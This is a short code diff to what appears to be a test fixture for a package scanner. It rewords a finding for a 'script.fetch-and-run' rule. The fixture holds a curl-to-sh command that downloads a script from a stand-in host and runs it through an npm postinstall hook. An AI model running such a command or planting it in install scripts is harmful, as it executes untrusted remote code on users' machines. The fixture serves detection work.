@@ -12,7 +12,7 @@ const narrow = (columns: number): Output =>
 const FINDING: Finding = {
   rule: "script.fetch-and-run",
   weight: "hostile",
-  text: "what is fetched is run, by itself: curl -s https://example.test/a/long/way/to/go.sh | sh",
+  text: "a download is run automatically: curl -s https://example.test/a/long/way/to/go.sh | sh",
   path: "packages/one-with-a-long-name/package.json",
   by: ["npm run postinstall", "sh -c curl -s https://example.test/a/long/way/to/go.sh | sh"],
 };
